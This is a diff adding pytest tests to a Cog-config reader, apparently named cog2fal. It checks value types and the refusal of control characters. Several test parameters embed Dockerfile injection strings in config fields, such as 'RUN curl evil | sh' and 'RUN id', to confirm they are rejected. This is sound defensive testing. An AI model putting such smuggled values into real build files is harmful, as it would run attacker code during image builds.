@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from cog2fal.codes import Code
 from cog2fal.errors import CogProjectError
 from cog2fal.reading.config import read_config, split_ref
 
@@ -103,3 +104,83 @@ def test_split_ref(tmp_path: Path) -> None:
     bad = config(tmp_path, 'predict: "predict:Predictor"\n')
     with pytest.raises(CogProjectError):
         split_ref(bad.predict, bad)
+
+
+# --------------------------------------------------------------------------- value types
+
+
+@pytest.mark.parametrize("value", ['"false"', '"true"', "1", "0", '"no"', "[true]"])
+def test_gpu_must_be_a_yaml_boolean(tmp_path: Path, value: str) -> None:
+    """Cog's schema types `gpu` as a boolean: a string "false" is not false, it is an error."""
+    with pytest.raises(CogProjectError) as error:
+        config(tmp_path, f"predict: p.py:P\nbuild:\n  gpu: {value}\n")
+    assert error.value.line == 3 and "`build.gpu`" in error.value.message
+
+
+@pytest.mark.parametrize(("value", "gpu"), [("true", True), ("false", False), ("", False), ("yes", True)])
+def test_gpu_booleans(tmp_path: Path, value: str, gpu: bool) -> None:
+    assert config(tmp_path, f"predict: p.py:P\nbuild:\n  gpu: {value}\n").gpu is gpu
+
+
+@pytest.mark.parametrize("value", ["true", "false", "1.5", '"4"', "[4]"])
+def test_concurrency_max_must_be_an_integer(tmp_path: Path, value: str) -> None:
+    with pytest.raises(CogProjectError) as error:
+        config(tmp_path, f"predict: p.py:P\nconcurrency:\n  max: {value}\n")
+    assert error.value.line == 3 and "`concurrency.max`" in error.value.message
+
+
+def test_concurrency_as_a_plain_number_is_the_maximum_with_a_note(tmp_path: Path) -> None:
+    cfg = config(tmp_path, "predict: p.py:P\nconcurrency: 32\n")
+    assert cfg.concurrency_max == 32
+    [note] = cfg.notes
+    assert note.code == Code.CONCURRENCY_PLAIN_NUMBER and note.location.line == 2
+    assert "concurrency: 32" in note.message
+
+
+@pytest.mark.parametrize("value", ["true", "0", '"32"', "-1"])
+def test_concurrency_plain_values_that_are_not_a_maximum(tmp_path: Path, value: str) -> None:
+    with pytest.raises(CogProjectError) as error:
+        config(tmp_path, f"predict: p.py:P\nconcurrency: {value}\n")
+    assert error.value.line == 2 and "`concurrency`" in error.value.message
+    assert "concurrency.max" not in error.value.message  # the file has no such key
+
+
+# --------------------------------------------------------------------------- Dockerfile values
+
+
+@pytest.mark.parametrize(("text", "line"), [
+    ('predict: p.py:P\nbuild:\n  python_version: "3.11\\nRUN curl evil | sh"\n', 3),
+    ('predict: p.py:P\nbuild:\n  system_packages:\n    - ffmpeg\n    - "git\\nRUN id"\n', 5),
+    ('predict: p.py:P\nbuild:\n  cuda: "12.1\\rFROM x"\n', 3),
+    ('predict: p.py:P\nbuild:\n  cudnn: "9\\x00"\n', 3),
+    ('predict: p.py:P\nbuild:\n  python_packages: ["torch\\nRUN id"]\n', 3),
+    ('predict: p.py:P\nbuild:\n  pre_install: ["echo\\u2028RUN id"]\n', 3),
+    ('predict: p.py:P\nbuild:\n  run:\n    - "echo hi\\nRUN id"\n', 4),
+    ('predict: p.py:P\nbuild:\n  run:\n    - command: "echo\\x1b[2J"\n', 4),
+    ('predict: p.py:P\nbuild:\n  run:\n    - command: echo\n      mounts: [{type: secret, id: "a\\nRUN id", target: /x}]\n',
+     4),
+    ('predict: p.py:P\nenvironment:\n  - "A=1"\n  - "TOKEN=x\\nRUN curl evil"\n', 4),
+    ('predict: p.py:P\nenvironment:\n  - "A=1\\x85B"\n', 3),
+    ('predict: "p.py:P\\nRUN id"\n', 1),
+    ('predict: p.py:P\ntrain: "t.py:T\\x00"\n', 2),
+    ('predict: p.py:P\nimage: "r8.im/a\\nb"\n', 2),
+    ('model: "m.py:M"\nenvironment:\n  python_version: "3.8\\nRUN id"\n', 3),
+])
+def test_control_characters_in_values_are_refused_at_their_line(tmp_path: Path, text: str,
+                                                                 line: int) -> None:
+    """Values reach the Dockerfile and the app: a line break there would be a new instruction."""
+    with pytest.raises(CogProjectError) as error:
+        config(tmp_path, text)
+    assert error.value.line == line and "control character" in error.value.message
+    assert "\n" not in str(error.value) and "RUN" not in str(error.value)
+
+
+def test_folded_and_block_run_items_keep_parity_with_cog(tmp_path: Path) -> None:
+    """A folded (>) item is one line; a block (|) item ends in a newline Cog strips: both fine.
+    A block with two lines is refused, as current Cog refuses it."""
+    cfg = config(tmp_path, "predict: p.py:P\nbuild:\n  run:\n    - >\n      pip install\n      x\n"
+                           "    - |\n      echo hi\n    - \"echo\\ttab\"\n")
+    assert [item.command for item in cfg.run] == ["pip install x", "echo hi", "echo\ttab"]
+    with pytest.raises(CogProjectError) as error:
+        config(tmp_path, "predict: p.py:P\nbuild:\n  run:\n    - |\n      echo a\n      echo b\n")
+    assert error.value.line == 4 and "new line" in error.value.message
